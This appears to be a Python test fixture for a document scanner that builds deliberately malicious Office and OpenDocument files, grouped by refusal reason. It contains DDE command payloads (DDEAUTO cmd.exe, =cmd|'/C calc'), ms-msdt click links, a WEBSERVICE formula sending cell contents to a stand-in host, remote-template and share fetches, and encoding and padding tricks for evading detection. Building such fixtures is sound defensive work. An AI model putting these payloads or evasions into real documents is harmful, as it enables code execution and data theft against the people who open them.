"""Office documents made to do harm, by the word that refuses them."""

import io
import zipfile
from collections.abc import Callable
from functools import partial

from tests.alerts_worker.evidence_checks.compounds import compound
from tests.alerts_worker.evidence_checks.evil_zips import HTML, PE
from tests.alerts_worker.evidence_checks.making import (
    add_to_zip,
    excel_file,
    open_document,
    picture,
    replace_in_zip,
    slides,
    word_file,
    zipped,
)

Make = Callable[[], bytes]
CONTENT_TYPES = "[Content_Types].xml"
FAR = " " * 70_000
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHARE = "file://example.vn/x"
W = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def read(content: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name).decode()


def relation(kind: str, target: str = "http://example.vn/x", *, mode: str = "External", quote: str = '"') -> str:
    entries = {"Id": "r1", "Type": f"http://s/{kind}", "Target": target, "TargetMode": mode}
    words = " ".join(f"{name}={quote}{value}{quote}" for name, value in entries.items())
    return f"<Relationships><Relationship {words}/></Relationships>"


def related(content: str | bytes, make: Make = word_file) -> tuple[str, Make]:
    body = content if isinstance(content, bytes) else content.encode()
    return "a.docx", lambda: add_to_zip(make(), ("word/_rels/footer9.xml.rels", body))


def typed(old: str, new: str, *, encoding: str = "utf-8", make: Make = word_file) -> tuple[str, Make]:
    """With other content types, and perhaps written otherwise."""

    def changed() -> bytes:
        words = read(make(), CONTENT_TYPES).replace(old, new)
        if encoding != "utf-8":
            words = words.partition("?>")[2]
        return replace_in_zip(make(), CONTENT_TYPES, words.encode(encoding))

    return "a.docx", changed


def with_part(name: str, content: bytes, make: Make = word_file) -> tuple[str, Make]:
    return "a.docx", lambda: add_to_zip(make(), (name, content))


def with_field(*pieces: bytes) -> tuple[str, Make]:
    words = b"".join(b"<w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p>" % piece for piece in pieces)
    return "a.docx", lambda: replace_in_zip(word_file(), "word/document.xml", W % words)


def declared(name: str, declaration: bytes, make: Make = word_file) -> tuple[str, Make]:
    """With a declaration far behind the beginning of a part."""

    def changed() -> bytes:
        head, _, rest = read(make(), name).rpartition("?>")
        words = f"{head}?>".encode() if head else b""
        return replace_in_zip(make(), name, words + b"<!--" + FAR.encode() + b"-->" + declaration + rest.encode())

    return "a.docx", changed


def written(body: bytes) -> tuple[str, Make]:
    """An open document of that body."""
    names = b'xmlns:office="o" xmlns:text="t" xmlns:xlink="x" xmlns:script="s" xmlns:draw="d"'
    content = b"<office:document-content %s>%s</office:document-content>" % (names, body)
    return "a.odt", lambda: replace_in_zip(open_document("x"), "content.xml", content)


def begins_with(words: bytes) -> bytes:
    """A document whose first part is stored as it is, and begins so."""
    document = word_file()
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive, zipfile.ZipFile(io.BytesIO(document)) as source:
        types = source.read(CONTENT_TYPES).partition(b"?>")[2].lstrip()
        archive.writestr(CONTENT_TYPES, b"<!--" + words + b"-->" + types)
        for name in source.namelist():
            if name != CONTENT_TYPES:
                archive.writestr(name, source.read(name))
    return target.getvalue()


ENTITY = b'<!DOCTYPE w [<!ENTITY a "ha">]>'
REFUSED: dict[str, dict[str, tuple[str, Make]]] = {
    "macros": {
        "docx that is a docm, in UTF-16": typed(MAIN, DOCM, encoding="utf-16"),
        "docx that is a docm, by a reference": typed(MAIN, DOCM.replace("E", "&#69;", 1)),
        "docx that is a docm, far behind": typed(f'ContentType="{MAIN}"', f'{FAR}ContentType="{DOCM}"'),
        "docx with macros under any name": related(relation("vbaProject", "a.bin", mode="Internal")),
        "xlsx with a sheet of macros under any name": typed(
            "</Types>", '<Override PartName="/a" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
        ),
        "xlsx that runs by a name": with_part(
            "xl/a.xml", b'<a><definedName name="_xlnm.Auto_Open">A!$A$1</definedName></a>', excel_file
        ),
        "pptx with a click that starts a program": with_part(
            "ppt/a.xml", b'<a><hlinkClick action="ppaction://program"/></a>', partial(slides, "x")
        ),
        "docx with a drawing that runs": with_part("word/media/a.svg", b'<svg><g onload="alert(1)"/></svg>'),
        "odt with a script for an event": written(b'<script:event-listener xlink:href="vnd.sun.star.script:a.py$x"/>'),
        "odt with a link that is a macro": written(b'<text:a xlink:href="macro:///Standard.A.B">a</text:a>'),
        "docx with an old document with macros": with_part(
            "word/embeddings/a.doc", compound(("WordDocument", b"a"), ("_VBA_PROJECT", b"a"))
        ),
        "docx with an old workbook of macros": with_part(
            "word/embeddings/a.bin", compound(("Workbook", b"\x09\x08\2\0\0\6\x85\0\x0a\0\0\0\0\0\0\1\1\0\0A"))
        ),
    },
    "activex": {"docx with a control": related(relation("control", "a.xml", mode="Internal"))},
    "external": {
        "docx that fetches its template, in single quotes": related(relation("attachedTemplate", quote="'")),
        "docx that fetches its template, far behind": related(relation("attachedTemplate").replace(" ", FAR, 1)),
        "docx that fetches its template, in UTF-16": related(relation("attachedTemplate").encode("utf-16")),
        "docx that fetches an object, by a reference": related(relation("oleObj&#101;ct", "mhtml:http://example.vn/x")),
        "docx that fetches a picture from a share": related(relation("image", SHARE)),
        "docx that fetches a picture from a share, in another way": related(relation("image", "\\\\example.vn\\x")),
        "docx that fetches its template, in capitals": with_part(
            "word/_rels/a.xml.RELS", relation("attachedTemplate").encode()
        ),
        "docx that fetches a frame": related(relation("frame")),
        "docx with a click that runs": related(relation("hyperlink", "ms-msdt:/id x")),
        "docx with a click that runs from a share": related(relation("hyperlink", f"{SHARE}.exe")),
        "docx with a field for a click that runs": with_field(b'HYPERLINK "ms-msdt:/id x"'),
        "docx with a field that fetches": with_field(b'INCLUDETEXT "http://example.vn/x"'),
        "docx with a field that fetches from a share": with_field(b'INCLUDEPICTURE "\\\\\\\\example.vn\\\\x" \\d'),
        "xlsx that sends its cells": ("a.xlsx", lambda: excel_file(('=WEBSERVICE("http://example.vn/"&A1)',))),
        "xlsx with a query of the web": with_part("xl/connections.xml", b'<a><webPr url="http://a"/></a>', excel_file),
        "odt with a section from elsewhere": written(b'<text:section-source xlink:href="http://example.vn/x.odt"/>'),
        "docx with an object that is elsewhere": with_part(
            "word/embeddings/a.bin", compound(("\x01Ole", "http://example.vn/x".encode("utf-16-le")))
        ),
    },
    "dde": {
        "docx with a field that runs": with_field(b'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        "docx with a field that runs, in pieces": with_field(b" D", b"DE", b"AUTO cmd"),
        "xlsx with a formula that runs": ("a.xlsx", lambda: excel_file(("=cmd|'/C calc'!A0",))),
        "xlsx with a link that runs": with_part(
            "xl/externalLinks/externalLink1.xml",
            b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
            excel_file,
        ),
        "odt with a source that runs": written(b'<office:dde-source office:dde-application="cmd"/>'),
    },
    "foreign-part": {
        "docx with a web page": with_part("word/a.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML),
        "docx with rich text": with_part("word/a.dat", b"{\\rtf1{\\object\\objemb}}"),
        "docx with a piece that is a web page": related(relation("aFChunk", "a.html", mode="Internal")),
    },
    "packaged": {
        "docx with a packaged file": with_part("word/embeddings/a.bin", compound(("\x01Ole10Native", b"a.exe"))),
        "odt with a program in an object": with_part("Object 1", compound(("a", PE)), partial(open_document, "x")),
    },
    "unreadable-object": {"docx with a broken object": with_part("word/a.dat", compound(("a", b"a"))[:600])},
    "archive": {"docx with a rar": with_part("word/embeddings/a.dat", b"Rar!\x1a\x07\1\0" + b"x" * 999)},
    "nested": {"docx with a zip behind two letters": with_part("word/media/a.dat", b"XX" + zipped(("a.exe", PE)))},
    "foreign-end": {"docx with a picture and a program": with_part("word/media/a.dat", picture() + PE)},
    "entities": {
        "docx of entities far behind": declared("word/document.xml", ENTITY),
        "xlsx of entities far behind": declared("xl/workbook.xml", ENTITY, excel_file),
        "docx that fetches its own grammar": declared(
            "word/styles.xml", b'<!DOCTYPE w SYSTEM "http://example.vn/x.dtd">'
        ),
    },
    "encrypted": {
        "odt locked with a password": with_part(
            "META-INF/manifest.xml", b"<m><file-entry><encryption-data/></file-entry></m>", partial(open_document, "x")
        )
    },
    "damaged": {"docx with a part that is no XML": with_part("word/a.xml", b"<a><b></a>")},
    "second-pdf": {"docx that is a PDF": ("a.docx", partial(begins_with, b"%PDF-1.7\n"))},
    "second-markup": {"docx that is a web page": ("a.docx", partial(begins_with, HTML))},
}
"""By the word that says why."""
EVIL = {name: each for group in REFUSED.values() for name, each in group.items()}
